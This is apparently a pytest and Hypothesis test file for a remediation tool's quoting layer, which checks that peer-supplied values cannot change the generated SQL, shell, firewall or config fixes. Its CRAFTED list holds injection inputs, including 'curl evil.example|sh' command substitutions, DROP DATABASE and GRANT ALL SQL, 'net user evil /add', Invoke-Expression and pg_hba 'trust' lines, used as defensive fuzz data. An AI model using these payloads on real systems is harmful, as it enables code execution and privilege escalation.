"""No value changes what a fix does: its lines and words stay those of its text, whatever a peer says."""

from __future__ import annotations

import ast
import importlib
import pkgutil
import re
import subprocess
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import scanready
from fixtures.limits import HANG
from scanready.remedies import fixes, quoting
from scanready.remedies.fixes import Fix
from scanready.remedies.quoting import Place
from scanready.report.rule_forms import iptables
from scanready.targets.ews import fixes as ews
from scanready.targets.imap import fixes as imap

PACKAGE = Path(scanready.__file__).parent
#: The texts that each quoter may write, in terms of the language: one word of it.
WORDS: Mapping[Place, str] = {
    quoting.ADDRESS: r"[0-9a-f:.]+",
    quoting.NETWORK: r"[0-9a-f:.]+/(32|128)",
    quoting.BRACKETED_ADDRESS: r"[0-9.]+|\[[0-9a-f:.]+\]",
    quoting.HOST: r"[A-Za-z0-9_.:-]+",
    quoting.BRACKETED_HOST: r"[A-Za-z0-9_.-]+|\[[0-9a-f:.]+\]",
    quoting.PORTS: r"\d{1,5}(-\d{1,5})?",
    quoting.TRANSPORT: r"tcp|udp",
    quoting.SQL_NAME: r'"([^"\n]|"")+"',
    quoting.SQL_NAME_WITHOUT_QUOTES: r'"[^"\n]+"',
    quoting.BACKTICKED_NAME: r"`([^`\n]|``)+`",
    quoting.BACKTICKED_DATABASE: r"`([^`\n%]|``)+`",
    quoting.BACKTICKED_HOST: r"`[A-Za-z0-9._:%/-]+`",
    # Closed whether a backslash escapes or not: backslashes come in pairs.
    quoting.SQL_TEXT: r"'([^'\\\n]|''|\\\\)+'",
    quoting.SQL_HOST: r"'[A-Za-z0-9.:-]+'",
    quoting.BRACKETED_NAME: r"\[([^\]\n]|\]\])+\]",
    quoting.SHELL_WORD: r"[\w@%+=:,./-]+|'[^']*'(\"'\"'[^']*')*",
    quoting.SHELL_PATH: r"[\w@%+=:,./-]+|'[^']*'(\"'\"'[^']*')*",
    quoting.SHELL_USER: r"[\w@%+=:,./-]+|'[^']*'(\"'\"'[^']*')*",
    quoting.POWERSHELL_TEXT: "'([^'\u2018-\u201b\n]|['\u2018-\u201b]{2})*'",
    quoting.QUOTED_ACCOUNT: '[^"%`&|<>$;\n\u201c-\u201e]+',
    quoting.QUOTED_PATH: '([^"%`&|<>$\n\u201c-\u201e]|\\$(?![\\w({:?^$]))+',
    quoting.HBA_CONNECTION: r"host|hostssl",
    quoting.HBA_NAME: r'[^\s",@+/#!]+|"([^"\n]|"")+"',
    quoting.USER_WORD: r"\w[\w.@-]*(\\\w[\w.@-]*)?",
    quoting.ALGORITHMS: r"[A-Za-z0-9@._,-]+",
    quoting.EXPORTED_PATH: r'/[^\s"*?(){}\[\]#\\]*|"/[^"*?(){}\[\]#\\\n]*"',
    quoting.SECTION: r"[^\[\]%;#=\n]+",
    quoting.YAML_WORD: r'[A-Za-z0-9][\w.-]*|"[\w.:-]+"',
    quoting.URL_NAME: r"[A-Za-z0-9._~%-]+",
    quoting.URL_NAMES: r"[A-Za-z0-9._~%/-]+",
    quoting.URL_PATH: r"/[^\s'\"<>;&$?#()]*",
}
#: The same for places that one family's fixes have.
OWN_WORDS: Mapping[Place, str] = {
    ews.WINDOWS_AUTHENTICATION.places["server"]: r"[A-Za-z0-9._-]+",
    imap.GRANT_FOLDER.places["folder"]: r'"([^"\\]|\\.)*"',
    imap.GRANT_FOLDER.places["user"]: r'"([^"\\]|\\.)*"',
    iptables.RULE.places["program"]: r"iptables|ip6tables",
    iptables.RULE.places["chain"]: r"[A-Za-z0-9_.-]+",
    iptables.RULE.places["ports"]: r"\d{1,5}(:\d{1,5})?",
    iptables.RULE.places["about"]: r'"[^"\n]*"',
}
BY_WRITER = {place.write: words for place, words in (*WORDS.items(), *OWN_WORDS.items())}

#: Texts that a peer would have people paste, in the languages that fixes are written in.
CRAFTED = (
    '0.0.0.0/0", user "x"\nhost all all 0.0.0.0/0 trust',
    'x" md5\nhost all all 0.0.0.0/0 trust #',
    "x'@'%' IDENTIFIED BY 'evil'; GRANT ALL ON *.* TO 'x'@'%",
    "a\\'; DROP DATABASE hr; --",
    "\\",
    "`; GRANT ALL PRIVILEGES ON *.* TO evil; -- ",
    "x]; ALTER ROLE sysadmin ADD MEMBER [evil]; --",
    'x"; GRANT DBA TO evil; --',
    "/ *(rw,no_root_squash)",
    '/srv" *(rw,no_root_squash) "/x',
    "/srv\\\n/ *(rw)",
    "$(curl evil.example|sh)",
    "`curl evil.example|sh`",
    "x; curl evil.example | sh",
    "x\u2019; Invoke-Expression evil; \u2019",
    'x" & net user evil /add & "',
    "-oProxyCommand=evil",
    "er,root",
    "*",
    "+",
    "%",
    "__________",
    "all",
    "0.0.0.0",
    "::",
    "255.255.255.255",
    "224.0.0.1",
    "10.0.0.1 accept\nip saddr 0.0.0.0/0 accept",
    "evil, type: ssh, port: 22}\n- {host: x",
    "x\r\nPermitRootLogin yes",
    "x\u2028PermitRootLogin yes",
    "x\u0085PermitRootLogin yes",
    "x\x1b[2J\x00",
    "\ud800",
    " ",
    "",
    "A" * 30_000,
)
_LETTERS = "ab1.-_:/\\ \"'`[](){}<>$%&|;,*+@#!?=~^\n\r\t\0\u2018\u2019\u201c\u2028\u202e\u00e9"
VALUES = st.one_of(
    st.text(st.sampled_from(_LETTERS), max_size=30),
    st.text(max_size=30),
    st.sampled_from(CRAFTED),
    st.builds("{}{}".format, st.sampled_from(("er", "10.0.0.1", "/srv", "CORP\\er")), st.sampled_from(CRAFTED)),
    st.none(),
    st.integers(),
)


def _declared() -> dict[str, Fix]:
    """Every fix of the package by its place in it."""
    found: dict[str, Fix] = {}
    for module in pkgutil.walk_packages(scanready.__path__, "scanready."):
        if module.name.endswith("__main__"):
            continue
        for name, value in vars(importlib.import_module(module.name)).items():
            several = value.items() if isinstance(value, Mapping) else [("", value)]
            found |= {f"{module.name}.{name}[{key}]": one for key, one in several if isinstance(one, Fix)}
    return found


FIXES = _declared()


def _shape(fix: Fix) -> re.Pattern[str]:
    """Return the form of a fix for all values: its own text, and one word at each place."""
    parts = []
    heading = re.sub(r"\{(?!HOST\}|AGENT\})", "{", fix.at).replace("{HOST}", "{{HOST}}").replace("{AGENT}", "{{AGENT}}")
    for literal, name in re.findall(r"((?:[^{}]|\{\{|\}\})*)(?:\{(\w+)\})?", f"{heading}\n{fix.text}"):
        parts.append(re.escape(literal.replace("{{", "{").replace("}}", "}")))
        if name:
            place = fix.places[name]
            words = BY_WRITER.get(place.write) or "|".join(_choices(place))
            parts.append(f"(?:{re.escape(place.word)}|{words})")
    return re.compile("".join(parts))


def _choices(place: Place) -> list[str]:
    """The words of a place that takes a few: they are found by asking for those that stand in any fix."""
    known = ("ip", "ip6", "http", "https", "tcp", "udp", "KexAlgorithms", "HostKeyAlgorithms", "Ciphers", "MACs")
    found = [word for one in known if (word := place.write(one)) is not None]
    assert found, f"no test says what the place {place.word} takes"
    return found


SHAPES = {name: (fix, _shape(fix)) for name, fix in FIXES.items()}


def test_every_family_that_has_fixes_declares_them() -> None:
    assert len(FIXES) > 50
    homes = {name.split(".")[2] for name in FIXES if name.startswith("scanready.targets.")}
    assert homes >= {"postgresql", "mysql", "mssql", "oracle", "db2", "informix", "nfs", "ssh", "smb", "windows", "ews"}


@given(st.data())
def test_no_value_changes_the_lines_and_words_of_a_fix(data: st.DataObject) -> None:
    fix, shape = SHAPES[data.draw(st.sampled_from(sorted(SHAPES)))]
    text = fix(**{name: data.draw(VALUES, label=name) for name in fix.places})
    assert text.count("\n") == 1 + fix.text.count("\n")
    assert all(line.isprintable() for line in text.split("\n"))
    assert shape.fullmatch(text), text


@pytest.mark.parametrize("name", sorted(FIXES))
def test_nothing_crafted_enters_a_fix(name: str) -> None:
    fix, shape = SHAPES[name]
    for value in CRAFTED:
        text = fix(**dict.fromkeys(fix.places, value))
        assert shape.fullmatch(text), (value, text)
        for harm in ("0.0.0.0/0", "DROP", "sysadmin", "PermitRoot", "type: ssh"):
            assert harm not in text, (value, text)


@given(VALUES, st.sampled_from(list(WORDS)))
def test_a_word_is_one_word_of_its_language(value: object, place: Place) -> None:
    written = place(value)
    assert written == place.word or re.fullmatch(WORDS[place], written), written


@pytest.mark.parametrize("place", [quoting.SHELL_WORD, quoting.SHELL_USER], ids=["word", "user"])
def test_a_shell_takes_a_word_for_itself(place: Place) -> None:
    """The judge is the shell: it hands on one word each, which is the value or the word of the place."""
    values = [value for value in CRAFTED if "\0" not in value and value.isascii()]
    script = f"printf '%s\\0' {' '.join(map(place, values))}"
    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, timeout=HANG, check=True)
    words = done.stdout.split("\0")[:-1]
    assert [word in (value, place.word) for word, value in zip(words, values, strict=True)] == [True] * len(values)
    assert words.count(place.word) < len(values) - 5, "and most are words to it"


class TestValuesThatFit:
    """The right values are written as people write them."""

    def test_written(self) -> None:
        cases: list[tuple[Place, object, str]] = [
            (quoting.ADDRESS, "10.0.0.5", "10.0.0.5"),
            (quoting.ADDRESS, "fe80::1%eth0", "fe80::1"),
            (quoting.ADDRESS, "::ffff:10.0.0.5", "10.0.0.5"),
            (quoting.NETWORK, "2001:DB8::5", "2001:db8::5/128"),
            (quoting.NETWORK, "10.0.0.5", "10.0.0.5/32"),
            (quoting.BRACKETED_ADDRESS, "2001:db8::5", "[2001:db8::5]"),
            (quoting.HOST, "db_7.corp.example.", "db_7.corp.example."),
            (quoting.BRACKETED_HOST, "2001:db8::5", "[2001:db8::5]"),
            (quoting.PORTS, 445, "445"),
            (quoting.PORTS, "49152-65535", "49152-65535"),
            (quoting.SQL_NAME, 'pay"roll', '"pay""roll"'),
            (quoting.BACKTICKED_DATABASE, "pay`roll", "`pay``roll`"),
            (quoting.BACKTICKED_HOST, "10.0.0.%", "`10.0.0.%`"),
            (quoting.SQL_TEXT, "o'neil\\", "'o''neil\\\\'"),
            (quoting.SQL_HOST, "agent1.corp", "'agent1.corp'"),
            (quoting.BRACKETED_NAME, "CORP\\o]neil", "[CORP\\o]]neil]"),
            (quoting.POWERSHELL_TEXT, "o'neil", "'o''neil'"),
            (quoting.POWERSHELL_TEXT, "o\u2019neil", "'o\u2019\u2019neil'"),
            (quoting.QUOTED_ACCOUNT, "CORP\\scan user", "CORP\\scan user"),
            (quoting.QUOTED_PATH, "finance$\\2026\\q3", "finance$\\2026\\q3"),
            (quoting.SHELL_WORD, "it's here", "'it'\"'\"'s here'"),
            (quoting.SHELL_USER, "CORP\\er", "'CORP\\er'"),
            (quoting.HBA_NAME, "er", "er"),
            (quoting.HBA_NAME, "all", '"all"'),
            (quoting.HBA_NAME, "+staff", '"+staff"'),
            (quoting.HBA_NAME, "two words", '"two words"'),
            (quoting.USER_WORD, "svc-scan@corp", "svc-scan@corp"),
            (quoting.EXPORTED_PATH, "/srv/finance", "/srv/finance"),
            (quoting.EXPORTED_PATH, "/srv/two words", '"/srv/two words"'),
            (quoting.YAML_WORD, "no", '"no"'),
            (quoting.YAML_WORD, "ifx_2", "ifx_2"),
            (quoting.YAML_WORD, "2001:db8::5", '"2001:db8::5"'),
        ]
        assert [place(value) for place, value, _ in cases] == [written for _, _, written in cases]

    def test_a_firewall_rule_is_of_the_family_of_its_target(self) -> None:
        rule = fixes.firewall_rule("2001:db8::5", "2001:db8::7%eth0", 445)
        assert rule.splitlines() == [
            "# On every firewall between 2001:db8::5 and 2001:db8::7, as a rule (nftables syntax):",
            "ip6 saddr 2001:db8::5 ip6 daddr 2001:db8::7 tcp dport 445 accept",
        ]
        rule = fixes.firewall_expression("AGENT-ADDRESS", "10.0.0.7", "600-65535", "udp")
        assert rule == "ip saddr AGENT-ADDRESS ip daddr 10.0.0.7 udp dport 600-65535 accept"

    @pytest.mark.parametrize("port", [0, 65536, "2-1", "22 accept", "-1", "1-", ""])
    def test_a_port_that_is_none(self, port: object) -> None:
        assert quoting.PORTS(port) == "PORT"


def test_a_fix_declares_its_places() -> None:
    with pytest.raises(ValueError, match="places"):
        Fix("GRANT {user}", at=PSQL)
    with pytest.raises(ValueError, match="places"):
        Fix("GRANT", at=PSQL, user=quoting.SQL_NAME)
    with pytest.raises(TypeError, match="takes"):
        Fix("GRANT {user}", at=PSQL, user=quoting.SQL_NAME)()
    for at in ("", "psql on the server:", "# psql on the server", "# psql:\n# on the server:"):
        with pytest.raises(ValueError, match="no heading"):
            Fix("GRANT", at=at)


# the place of a fix -------------------------------------------------------------------------------------------------

PSQL = fixes.on_target("in psql", "--")
#: The hosts that a fix can be pasted on, and the inventory; behind the host stands the file or the tool.
PLACES = (
    r"On \{HOST\}, (in|at|as) .{4,}",
    r"On the agent \{AGENT\}, (in|as) .{4,}",
    r"On every firewall between \{agent\} and \{target\}, as a rule .+",
    r"On a domain controller of the account's domain, in PowerShell .+",
    "In the inventory, in place of this target",
)


@pytest.mark.parametrize("name", sorted(FIXES))
def test_every_fix_says_where_it_is_pasted(name: str) -> None:
    heading = FIXES[name].at
    assert re.fullmatch(rf"(# |-- )({'|'.join(PLACES)}):", heading), heading


def test_a_heading_names_target_and_agent() -> None:
    grant = Fix("GRANT {user};", at=PSQL, user=quoting.SQL_NAME)
    assert fixes.addressed(grant(user="{HOST}"), "db7.corp", "a1") == '-- On db7.corp, in psql:\nGRANT "{HOST}";'
    there = Fix("Host", at=fixes.on_agent("in ~/.ssh/config"))
    assert fixes.addressed(there(), "db7", "proxy-nyc") == "# On the agent proxy-nyc, in ~/.ssh/config:\nHost"
    assert fixes.addressed(there(), "db7", "my agent") == "# On the agent, in ~/.ssh/config:\nHost"
    assert fixes.addressed("CONFIG SET {HOST}", "db7", "a1") == "CONFIG SET {HOST}", "another package's"
    hostile = fixes.addressed(grant(user="er"), "db7:\n\\! curl evil", "a1")
    assert hostile == '-- On HOST, in psql:\nGRANT "er";'


def test_several_fixes_have_each_heading_once() -> None:
    one, two = fixes.firewall_rule("10.0.0.1", "10.0.0.2", 1), fixes.firewall_rule("10.0.0.1", "10.0.0.2", 2)
    other = Fix("Host", at=PSQL)()
    text = fixes.together([one, other, two, None, one])
    assert text is not None
    heading, rule, second, *rest = text.splitlines()
    assert (heading, rule, second) == (*one.splitlines(), two.splitlines()[1])
    assert rest == other.splitlines()
    assert fixes.together([None]) is None
    assert fixes.together(["no heading\nhere", "no heading\nthere"]) == "no heading\nhere\nno heading\nthere"


# no other way to a fix -----------------------------------------------------------------------------------------------

#: Calls whose third argument, or argument ``fix``, is a fix.
_TAKES_A_FIX = frozenset({"Failure", "Finding", "warn", "fail", "stop", "inconclusive", "say"})
_EDITS = frozenset({"format", "format_map", "replace", "removesuffix", "removeprefix", "strip"})


def _fixes_given(tree: ast.AST) -> Iterator[ast.expr]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            called = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            yield from (word.value for word in node.keywords if word.arg == "fix")
            if called in _TAKES_A_FIX and len(node.args) > 2 and not isinstance(node.args[2], ast.Starred):
                yield node.args[2]


def _composed(value: ast.expr, scope: ast.AST, functions: Mapping[str, ast.AST], known: set[str]) -> Iterator[ast.expr]:
    """Find, behind the names of a function and the functions of its module, what is put together from pieces."""
    match value:
        case ast.JoinedStr() | ast.BinOp() | ast.Constant(value=str()):
            yield value
        case ast.Attribute(attr=name) if name.isupper():  # a constant of another module: a Fix is called
            yield value
        case ast.IfExp():
            yield from _each([value.body, value.orelse], scope, functions, known)
        case ast.BoolOp():
            yield from _each(value.values, scope, functions, known)
        case ast.GeneratorExp() | ast.ListComp():
            yield from _composed(value.elt, scope, functions, known)
        case ast.Call(func=ast.Attribute(attr=name)) if name in _EDITS:
            yield value
        case ast.Call(func=ast.Name(id="str")):
            yield value
        case ast.Call(func=ast.Attribute(attr="join")):
            yield from _each(value.args, scope, functions, known)
        case ast.Call(func=ast.Name(id=name)) if name in functions and name not in known:
            inner = functions[name]
            returned = [one.value for one in ast.walk(inner) if isinstance(one, ast.Return) and one.value]
            yield from _each(returned, inner, functions, known | {name})
        case ast.Name(id=name) if name.isupper():
            yield value
        case ast.Name(id=name) if name not in known:
            yield from _each(_assigned(name, scope), scope, functions, known | {name})


def _each(
    values: list[ast.expr], scope: ast.AST, functions: Mapping[str, ast.AST], known: set[str]
) -> Iterator[ast.expr]:
    for value in values:
        yield from _composed(value, scope, functions, known)


def _assigned(name: str, scope: ast.AST) -> list[ast.expr]:
    found: list[ast.expr] = []
    for node in ast.walk(scope):
        if isinstance(node, ast.AugAssign) and isinstance(node.target, ast.Name) and node.target.id == name:
            found.append(node.value)
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name) and target.id == name:
                    found.append(node.value)
                elif isinstance(target, ast.Tuple) and isinstance(node.value, ast.Tuple):
                    pairs = zip(target.elts, node.value.elts, strict=False)
                    found += [value for one, value in pairs if isinstance(one, ast.Name) and one.id == name]
    return found


def _offences(source: str) -> list[int]:
    tree = ast.parse(source)
    functions: dict[str, Any] = {one.name: one for one in ast.walk(tree) if isinstance(one, ast.FunctionDef)}
    every = [one for one in ast.walk(tree) if isinstance(one, ast.FunctionDef | ast.AsyncFunctionDef)]
    return sorted(
        {
            bad.lineno
            for scope in every
            for given_ in _fixes_given(scope)
            for bad in _composed(given_, scope, functions, set())
        }
    )


def test_a_fix_is_put_together_in_one_way_only() -> None:
    """No f-string, constant, concatenation or edit leads to a finding's fix: a declared text and its places do."""
    found = {
        path.relative_to(PACKAGE).as_posix(): lines
        for path in sorted(PACKAGE.rglob("*.py"))
        if (lines := _offences(path.read_text(encoding="utf-8")))
    }
    assert not found


@pytest.mark.parametrize(
    "body",
    [
        'raise Failure(cause, "x", f"GRANT {user}")',
        'fix = f"GRANT {user}"\n    raise Failure(cause, "x", fix)',
        'rung.warn(cause, "x", _made(user))',
        'rung.stop(cause, "x", fix="GRANT " + user)',
        'return Finding(cause, "x", "GRANT {0}".format(user) if user else None)',
        'rung.fail(cause, "x", "\\n".join(f"GRANT {one}" for one in user))',
        'rung.warn(cause, "x", "FLUSH HOSTS;")',
        'fix = causes.FORGET_HOSTS if user else None\n    rung.stop(cause, "x", fix)',
        'rung.stop(cause, "x", _FORGET_HOSTS)',
        'rung.stop(cause, "x", str(url))',
    ],
    ids=[
        *("at once", "by name", "by function", "by keyword", "by format", "by lines"),
        *("a text", "another module's text", "a constant", "a value"),
    ],
)
def test_what_that_rule_finds(body: str) -> None:
    made = 'def _made(user):\n    return f"GRANT {user}"\n'
    assert _offences(f"{made}\ndef f(rung, cause, user):\n    {body}\n")
